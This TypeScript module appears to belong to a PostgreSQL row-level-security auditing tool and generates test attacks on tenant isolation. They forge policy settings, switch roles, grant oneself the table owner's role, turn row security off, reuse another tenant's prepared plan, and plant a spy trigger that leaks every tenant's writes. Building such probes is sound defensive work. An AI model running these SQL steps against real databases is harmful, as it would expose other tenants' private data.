/**
 * Becoming somebody else: settings that a policy takes as leave to pass (B4), roles that can be taken on (A5, A6, A9), ownership (A7), plans
 * made for another tenant (B16), triggers on a shared table (F3).
 */
import { quoteName } from "@watertight/schema";
import { literal } from "../seed/values.ts";
import type { Actor, Attack, Control, Ruling, Seen, Step } from "./attack.ts";
import { allShown, Forge, mainStance, shownColumns } from "./forms.ts";
import { isUnclear, said } from "./judge.ts";
import { policiesOf, policyRoutines } from "./paths.ts";
import { openTable, rightsOf, type Target, unboundControl, type World } from "./world.ts";

const usual = ["on", "true", "1", "yes", "service_role", "admin"];

/** Settings that a table's policies read and that are not the context, with values worth trying. */
function otherSettings(world: World, target: Target): { readonly name: string; readonly values: readonly string[] }[] {
  const texts = [
    ...policiesOf(world, target.relation).flatMap(({ using, check }) => [using ?? "", check ?? ""]),
    ...policyRoutines(world, target.relation).map(({ body }) => body),
  ];
  const context = new Set(
    world.facts.understanding.context.flatMap((source) => ("setting" in source ? [source.setting] : [])),
  );
  const found = new Map<string, Set<string>>();
  for (const text of texts)
    for (const [, name] of text.matchAll(/current_setting\(\s*'([\w.]+)'/gi)) {
      if (context.has(name!) || /^(request\.jwt|watertight\.)/.test(name!) || !name!.includes(".")) continue;
      const values = found.get(name!) ?? new Set<string>();
      found.set(name!, values);
      for (const [, value] of text.matchAll(/'([\w-]{1,30})'/g)) if (value !== name) values.add(value!);
    }
  return [...found].map(([name, values]) => ({ name, values: [...new Set([...values, ...usual])].slice(0, 8) }));
}

/** The attacks that set such a setting and read. */
export function settingAttacks(world: World, target: Target, actor: Actor): Attack[] {
  const shown = shownColumns(world, target, actor);
  if (shown === null || !target.relation.rowSecurity) return [];
  const forge = new Forge(world, target, actor, "side-door", "B4");
  return otherSettings(world, target).map(({ name, values }) => {
    const steps = values.flatMap((value): Step[] => [
      { sql: `select set_config(${literal(name)}, ${literal(value)}, true) as set_config`, alone: true },
      { sql: `select ${shown} from ${target.name}` },
    ]);
    const attack = forge.read(`set ${name}, then select`, mainStance(actor), steps, "B4");
    return { ...attack, object: name };
  });
}

/** The attacks that take on another role and read. */
export function roleAttacks(world: World, target: Target, actor: Actor): Attack[] {
  const { reach } = world.facts;
  const direct: Actor = { ...actor, login: actor.role };
  const forge = new Forge(world, target, direct, "side-door", "A5");
  const main = mainStance(actor);
  const attackers = new Set(world.actors.map(({ role }) => role));
  const member = (role: string): boolean => reach.settable.has(role) && role !== actor.role && !attackers.has(role);
  const attacks = [...reach.settable].filter(member).map((role): Attack => {
    const taken = reach.role(role);
    const owns = target.relation.owner === role && !target.relation.forced;
    const vector = taken?.superuser || taken?.bypassRls || owns ? "A5" : "A9";
    const steps = [
      { sql: `set local role ${quoteName(role)}` },
      { sql: `select ${allShown(target)} from ${target.name}` },
    ];
    const attack = forge.read(`set role ${role}, then select`, main, steps, vector);
    const grant: Control = {
      off: `row security off, all rights granted to ${role}`,
      sql: [
        ...openTable(world, { ...actor, role }, [target.relation]).sql,
        `grant all on ${target.name} to ${quoteName(role)}`,
      ],
    };
    return { ...attack, object: role, controls: [grant] };
  });
  // before 16 CREATEROLE makes a member of any role that is no superuser
  const own = reach.role(actor.role);
  const owner = reach.role(target.relation.owner);
  if (own?.createRole && owner && !owner.superuser && !own.superuser && owner.name !== own.name) {
    const steps = [
      { sql: `grant ${quoteName(owner.name)} to ${quoteName(own.name)}` },
      { sql: `alter table ${target.name} no force row level security` },
      { sql: `select ${allShown(target)} from ${target.name}` },
    ];
    const attack = forge.read(`grant oneself ${owner.name}, then select`, main, steps, "A6");
    attacks.push({
      ...attack,
      object: owner.name,
      heavy: true,
      controls: [openTable(world, actor, [target.relation])],
    });
  }
  // the owner, or who inherits from it, may switch row security off
  if (reach.inherited.has(target.relation.owner)) {
    const steps = [
      { sql: `alter table ${target.name} no force row level security, disable row level security` },
      { sql: `select ${allShown(target)} from ${target.name}` },
    ];
    const attack = forge.read("switch row security off, then select", main, steps, "A7");
    attacks.push({ ...attack, object: target.relation.owner, heavy: true });
  }
  return attacks;
}

/** The attack that runs a plan made in B's context. */
export function planAttacks(world: World, target: Target, actor: Actor): Attack[] {
  const shown = shownColumns(world, target, actor);
  if (shown === null || !target.relation.rowSecurity || actor.kind === "anonymous" || !world.context.exists) return [];
  // settings are read anew each time; only a function may promise that it never changes
  if (policyRoutines(world, target.relation).length === 0) return [];
  const forge = new Forge(world, target, actor, "side-door", "B16");
  const attack = forge.read(
    "run a statement that was prepared in B's context",
    mainStance(actor),
    "execute wt_plan",
    "B16",
  );
  return [
    {
      ...attack,
      before: [
        { sql: `prepare wt_plan as select ${shown} from ${target.name}`, note: "B's request, on the same connection" },
        { sql: "execute wt_plan" },
      ],
      after: ["deallocate wt_plan"],
    },
  ];
}

/** The attack that hangs a trigger on a table that all tenants write. */
export function triggerAttacks(world: World, target: Target, actor: Actor): Attack[] {
  if (!rightsOf(world, actor, target.relation).trigger) return [];
  const forge = new Forge(world, target, actor, "side-door", "F3");
  const steps: Step[] = [
    {
      sql: "create function pg_temp.wt_spy() returns trigger language plpgsql as $$ begin raise notice '%', to_jsonb(new); return new; end $$",
    },
    {
      sql: `create trigger wt_spy before insert or update on ${target.name} for each row execute function pg_temp.wt_spy()`,
      note: "from now on every tenant's writes run this function",
    },
  ];
  const judge = ({ answers }: Seen): Ruling => {
    const refused = answers.map(({ error }) => error).find((error) => error !== null);
    if (refused) return { result: isUnclear(refused.code) ? "error" : "blocked", evidence: said(refused) };
    return { result: "leaked", evidence: "a trigger of the application role now sees every tenant's rows" };
  };
  const attack = forge.write("hang a trigger on the table", mainStance(actor), steps, {
    vector: "F3",
    judge,
    controls: [{ ...unboundControl, off: "TRIGGER and TEMP granted" }],
  });
  return [{ ...attack, watch: [], heavy: true }];
}
